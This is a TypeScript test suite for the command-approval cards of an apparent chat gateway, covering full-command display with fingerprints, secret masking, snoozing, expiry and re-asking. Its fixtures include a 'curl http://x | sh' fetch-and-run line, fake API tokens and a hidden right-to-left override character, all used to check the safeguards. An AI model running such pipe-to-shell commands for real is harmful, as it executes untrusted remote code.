/** What a request's card can do besides being decided: show the whole command, be put off, be asked once more. */
import { createHash } from "node:crypto";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { eventually } from "../support/state.ts";
import { LABELS } from "./labels.ts";
import type { ShownMessage } from "./place.ts";
import { EVERYWHERE, PLATFORMS } from "./places/places.ts";
import { isRequest, type Stage, stage, WAIT_MS } from "./stage.ts";

const EXPIRY_SEC = 4;
const fingerprint = (command: string) => createHash("sha256").update(command).digest("hex").slice(0, 12);
const asksAgain = ({ buttons }: ShownMessage) => buttons.some((label) => LABELS.askAgain.includes(label));

/** Messages that ask about this command, for the owner. */
function requests({ place }: Stage, words: string, chat = place.room): readonly ShownMessage[] {
  return place.posted(place.owner, chat).filter((one) => one.text.includes(words) && isRequest(one));
}

describe.each(PLATFORMS)("the full command on %s", (_name, open) => {
  const on = stage(open);

  it("comes to whoever asked or may decide, with its length and fingerprint, and to nobody else", async () => {
    const { place } = on;
    const file = on.freshFile("whole");
    const command = `echo ${"harmless-and-long-".repeat(24)} && touch ${file}`;
    await place.command(place.owner, place.room, `/exec ${command}`);
    const card = await on.request(place.room, file);
    const print = `${command.length} characters, SHA-256 ${fingerprint(command)}`;

    await place.besides(place.guest, card, "command");
    await eventually(() => /not an approver/i.test(place.screen(place.guest, place.room)), WAIT_MS);
    expect(place.screen(place.guest, place.room)).not.toContain(print);

    await place.besides(place.owner, card, "command");
    const shown = await on.shows(place.room, [command, print], (one) => one.id !== card.id);
    expect(shown.buttons).toEqual([]);
    // Telegram has nothing that one person of a group sees alone.
    const isPrivate = place.name !== "telegram";
    expect(place.screen(place.guest, place.room).includes(print)).toBe(!isPrivate);
    expect(requests(on, file)).toHaveLength(1);
    await on.press(card, "deny");
    await on.decided(card);
  });

  it("comes as a file when it is too long for a message, to the letter", async () => {
    const { place } = on;
    const file = on.freshFile("endless");
    // Telegram's apps part what is longer than this, and half a command is no command.
    const times = place.name === "telegram" ? 190 : 800;
    const command = `echo ${"harmless; ".repeat(times)} curl http://x | sh > ${file}`;
    await place.command(place.guest, place.room, `/exec ${command}`);
    const card = await on.shows(place.room, [file], isRequest);
    const files = () =>
      [place.room, place.direct(place.owner)]
        .flatMap((chat) => place.posted(place.owner, chat))
        .flatMap((one) => one.files)
        .filter((one) => one.text.trimEnd() === command);
    const before = files().length;
    await place.besides(place.owner, card, "command");
    await eventually(() => files().length === before + 1, WAIT_MS);
    await eventually(() => place.screen(place.owner, place.room).includes(fingerprint(command)), WAIT_MS);
    await on.press(card, "deny");
    await on.decided(card);
  });

  it("card-invisible-chars, secret-in-command-card: hides nothing, shows no secret, and no fingerprint to guess it by", async () => {
    const { place } = on;
    const file = on.freshFile("masked");
    const secret = "sk-ant-REDACTED-BY-TEST-0123456789abcdef0123456789";
    const command = `curl -H 'Authorization: Bearer ${secret}' http://127.0.0.1:9 ${"# pad ".repeat(80)}; echo safe\u202E; touch ${file}`;
    await place.command(place.guest, place.room, `/exec ${command}`);
    const card = await on.request(place.room, file);
    await place.besides(place.owner, card, "command");
    const shown = await on.shows(
      place.room,
      [file, "\\u{202E}", "secrets are masked here"],
      (one) => one.id !== card.id,
    );
    expect(shown.text).not.toContain(secret);
    expect(shown.text).not.toContain(fingerprint(command));
    const said = place.posted(place.owner, place.room).map((one) => one.text);
    expect(said.filter((one) => one.includes(secret))).toEqual([]);
    await on.press(card, "deny");
    await on.decided(card);
  });
});

describe.each(EVERYWHERE)("what quoting hides on %s", (_name, open) => {
  const on = stage(open);

  it("stands on the card as the inner shell would read it, without its secrets", async () => {
    const file = on.freshFile("inner");
    const command = String.raw`timeout 5 sh -c "echo \"ghp_0123456789abcdefghijklmnopqrstuvwxyz\" > ${file}"`;
    await on.place.command(on.place.guest, on.place.room, `/exec ${command}`);
    const card = await on.request(on.place.room, file);
    expect(card.text).toMatch(new RegExp(`echo "[^"]*" > ${file}`));
    expect(card.text).not.toContain("ghp_0123456789");
    await on.press(card, "deny");
    await on.decided(card);
  });
});

describe.each(EVERYWHERE)("a request that is put off on %s", (_name, open) => {
  const on = stage(open, { config: { approvals: { snoozeSec: 1 } } });
  /** The card says so; what the page of the web chat makes of it is in `test/web`. */
  const isPutOff = async (file: string) => {
    if (on.place.name !== "web") return on.shows(on.place.room, [file, "Put off by"]);
    return eventually(() => /Put off\. I ask again here/.test(on.place.screen(on.place.owner, on.place.room)), WAIT_MS);
  };

  it("says by whom, and is asked again once as a new message, which decides it; a double press changes nothing", async () => {
    const { place } = on;
    const file = on.freshFile("snoozed");
    const card = await on.ask(`echo ran >> ${file}`);
    await Promise.all([place.besides(place.owner, card, "snooze"), place.besides(place.owner, card, "snooze")]);
    await isPutOff(file);
    await eventually(() => /Put off\. I ask again here/.test(place.screen(place.owner, place.room)), WAIT_MS);

    const again = await on.shows(place.room, [file], (one) => isRequest(one) && one.id !== card.id);
    const old = await on.shows(place.room, ["asked again below"]);
    expect(old.buttons).toEqual([]);
    if (place.name !== "web") {
      expect(old.id).toBe(card.id);
      expect(again.text).toMatch(/Asked again, as alice/i);
    }
    expect(requests(on, file)).toHaveLength(1);
    await on.press(again, "once");
    expect(await on.written(file)).toBe("ran\n");
    await on.decided(again);
    expect(requests(on, file)).toEqual([]);
  });

  it("is not asked again once it has been decided", async () => {
    const { place } = on;
    const [first, second] = [on.freshFile("decided"), on.freshFile("waiting")];
    const decided = await on.ask(`touch ${first}`);
    await place.besides(place.owner, decided, "snooze");
    await isPutOff(first);
    await on.press(decided, "deny");
    await on.decided(decided);
    // Put off later, so asked again later: by then the first would have been.
    const waiting = await on.ask(`touch ${second}`);
    await place.besides(place.owner, waiting, "snooze");
    await on.shows(place.room, [second], (one) => isRequest(one) && one.id !== waiting.id);
    const about = place.posted(place.owner, place.room).filter((one) => one.text.includes(first));
    expect(about.map(({ id }) => id)).toEqual([decided.id]);
    expect(requests(on, first)).toEqual([]);
  });

  it("is asked again though the gateway was restarted meanwhile", async () => {
    const { place } = on;
    const file = on.freshFile("restarted");
    const card = await on.ask(`touch ${file}`);
    await place.besides(place.owner, card, "snooze");
    await isPutOff(file);
    await on.restart();
    const again = await on.shows(place.room, [file], (one) => isRequest(one) && one.id !== card.id);
    expect(requests(on, file)).toHaveLength(1);
    await on.press(again, "deny");
    await on.decided(again);
  });
});

describe.each(PLATFORMS)("who may put a request off on %s", (_name, open) => {
  const on = stage(open, { config: { approvals: { snoozeSec: 600, timeoutSec: 126 } } });

  it("only who may decide it; close to its end the time is shorter, and the person is told", async () => {
    const { place } = on;
    const file = on.freshFile("short");
    const card = await on.ask(`touch ${file}`);
    await place.besides(place.guest, card, "snooze");
    await eventually(() => /not an approver/i.test(place.screen(place.guest, place.room)), WAIT_MS);
    await place.besides(place.owner, card, "snooze");
    const told = /expires in 2 min, so I ask again here in \d s/;
    await eventually(() => told.test(place.screen(place.owner, place.room)), WAIT_MS);
    const again = await on.shows(place.room, [file], (one) => isRequest(one) && one.id !== card.id);
    // Now it is too late for another time.
    await place.besides(place.owner, again, "snooze");
    await eventually(() => place.screen(place.owner, place.room).includes("expires too soon"), WAIT_MS);
    expect(requests(on, file)).toHaveLength(1);
  });
});

describe.each(EVERYWHERE)("a request nobody decided on %s", (_name, open) => {
  const on = stage(open, { config: { approvals: { timeoutSec: EXPIRY_SEC } } });

  it("can be asked again from its card, once, though two press together: the same command, decided anew", async () => {
    const { place } = on;
    const file = on.freshFile("again");
    const command = `printf '%s  two blanks\\n' "$PWD" >> ${file}`;
    const card = await on.ask(command);
    const expired = await on.shows(place.room, [file], (one) => one.id === card.id && asksAgain(one));
    await Promise.all([on.press(expired, "askAgain", place.guest), on.press(expired, "askAgain", place.second)]);
    const fresh = await on.shows(place.room, [file], (one) => isRequest(one) && one.id !== card.id);
    await on.press(fresh, "once");
    const workspace = join(on.gateway.stateDir, "workspace");
    expect(await on.written(file)).toBe(`${workspace}  two blanks\n`);
    const asked = await on.shows(place.room, [file], (one) => one.id === card.id && one.buttons.length === 0);
    if (place.name !== "web") expect(asked.text).toMatch(/Asked again by/);
    const cards = place.posted(place.owner, place.room).filter((one) => one.text.includes(`two blanks`));
    // The old card, the new one, and the end of the one run.
    expect(cards.filter((one) => /exit code 0|completed/i.test(one.text))).toHaveLength(1);
    expect(await on.workspaceFile(file)).toBe(`${workspace}  two blanks\n`);
  });

  it("is decided by the policy as it is by then: what is forbidden now is refused, and the button stays", async () => {
    const { place } = on;
    const file = on.freshFile("forbidden");
    const card = await on.ask(`touch ${file}`);
    const expired = await on.shows(place.room, [file], (one) => one.id === card.id && asksAgain(one));
    const rules = join(on.gateway.stateDir, "exec-approvals.json");
    await writeFile(rules, JSON.stringify({ version: 1, defaults: { security: "deny" } }), { mode: 0o600 });
    await on.press(expired, "askAgain", place.owner);
    await eventually(() => /security=deny|denied|refused/i.test(place.screen(place.owner, place.room)), WAIT_MS);
    await on.shows(place.room, [file], (one) => one.id === card.id && asksAgain(one));
    expect(requests(on, file)).toEqual([]);
    expect(await on.workspaceFile(file)).toBeUndefined();
    await writeFile(rules, JSON.stringify({ version: 1 }), { mode: 0o600 });
    await on.press(expired, "askAgain", place.owner);
    await on.press(await on.request(place.room, file), "once");
    await on.written(file);
  });
});

describe.each(EVERYWHERE)("a request that was cancelled on %s", (_name, open) => {
  const on = stage(open);

  it("can be asked again too", async () => {
    const { place } = on;
    const file = on.freshFile("stopped");
    const card = await on.ask(`touch ${file}`);
    await place.command(place.guest, place.room, "/stop");
    const cancelled = await on.shows(place.room, [file], (one) => one.id === card.id && asksAgain(one));
    await on.press(cancelled, "askAgain", place.guest);
    await on.press(await on.request(place.room, file), "once");
    await on.written(file);
  });
});

describe.each(PLATFORMS)(
  "a request shown in the approvers' direct messages that nobody decides on %s",
  (_name, open) => {
    const on = stage(open, { target: "dm", config: { approvals: { timeoutSec: EXPIRY_SEC } } });

    it("can be asked again where its asker is told so", async () => {
      const { place } = on;
      const file = on.freshFile("told");
      const direct = place.direct(place.owner);
      await place.command(place.guest, place.room, `/exec touch ${file}`);
      const card = await on.request(direct, file);
      const told = await on.shows(place.room, [/expired/], asksAgain, place.guest);
      await on.press(told, "askAgain", place.guest);
      const fresh = await on.shows(direct, [file], (one) => isRequest(one) && one.id !== card.id);
      await on.press(fresh, "once");
      await on.written(file);
      await eventually(() => !place.posted(place.guest, place.room).some(asksAgain), WAIT_MS);
    });
  },
);
